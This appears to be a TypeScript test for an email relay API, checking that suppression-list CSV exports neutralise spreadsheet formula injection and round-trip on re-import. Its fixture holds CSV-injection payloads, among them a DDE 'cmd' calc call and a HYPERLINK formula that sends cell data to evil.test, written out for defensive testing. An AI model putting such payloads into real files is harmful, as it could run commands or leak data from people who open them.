// Attacker's pass (CSV injection): a suppression's address or detail that starts like a spreadsheet
// formula (=, +, -, @, tab, CR) — put there by a CSV import or by a hostile receiver's bounce text —
// must come out of GET /v1/suppressions/export as text, not as a formula, and an exported file must
// import back to the same entries. Over real HTTP against an in-process API with a SQLite store.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { pino } from 'pino';
import { systemClock } from '../../src/clock.js';
import { configSchema } from '../../src/config/schema.js';
import { MessageSigner } from '../../src/domains/message-signer.js';
import { fixedSecrets } from '../../src/events/secret-ring.js';
import { parseCsv } from '../../src/events/suppression-csv.js';
import { startApi } from '../../src/http/index.js';
import { openStore } from '../../src/store/open-store.js';
import { call, seedTenant } from '../helpers/api-fixture.js';

test('suppression CSV export neutralises formula cells and round-trips', async (t) => {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'postlane-csvinj-'));
  const config = configSchema.parse({ hostname: 'relay.test', dataDir: dir, http: { port: 0 } });
  const logger = pino({ level: 'silent' });
  const store = await openStore(config, logger, 'relay');
  await store.open();
  const acme = await seedTenant(store, { account: 'acme', domains: ['acme.test'], keys: { rw: ['send', 'read'] } });
  const beta = await seedTenant(store, { account: 'beta', domains: ['beta.test'], keys: { rw: ['send', 'read'] } });
  const signer = new MessageSigner({ store, hostname: config.hostname, domains: config.domains, clock: systemClock, logger });
  const api = (await startApi({ config, store, clock: systemClock, logger, tls: { cert: '', key: '' }, signer, bounceSecrets: fixedSecrets() }))!;
  const base = `http://127.0.0.1:${api.address.port}`;
  t.after(async () => { await api.close(); await store.close(); await fs.rm(dir, { recursive: true, force: true }); });

  const hostile = [
    'email,reason,detail',
    "=cmd|'/Ccalc'!A0@evil.test,manual,=HYPERLINK(\"http://evil.test/?x=\"&A1;\"click\")",
    '+1+1@evil.test,manual,@SUM(1+1)*cmd',
    '-2+3@evil.test,manual,-2+3',
    'ann@ok.test,manual,"\tlooks like a tab"',
  ].join('\r\n');
  const imported = await call(base, 'POST', '/v1/suppressions/import', { token: acme.tokens.rw, body: { csv: hostile } });
  assert.equal(imported.status, 200, imported.text);
  assert.equal(imported.body.added, 4, imported.text);

  const exported = await call(base, 'GET', '/v1/suppressions/export', { token: acme.tokens.rw });
  assert.equal(exported.status, 200);
  for (const { fields } of parseCsv(exported.text).slice(1)) {
    for (const cell of fields) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a spreadsheet would run ${JSON.stringify(cell)}`);
  }

  // The exported file imports back (into another account) to the very same entries.
  const again = await call(base, 'POST', '/v1/suppressions/import', { token: beta.tokens.rw, body: { csv: exported.text } });
  assert.equal(again.status, 200, again.text);
  assert.deepEqual(again.body.errors, []);
  const list = async (token: string) => (await store.listSuppressions({ account: token === acme.tokens.rw ? 'acme' : 'beta', limit: 100 }))
    .map((s) => [s.address, s.detail]).sort();
  assert.deepEqual(await list(beta.tokens.rw), await list(acme.tokens.rw));
  assert.ok((await list(acme.tokens.rw)).some(([a]) => a?.toLowerCase() === "=cmd|'/ccalc'!a0@evil.test"), 'the address itself is kept as given');
});
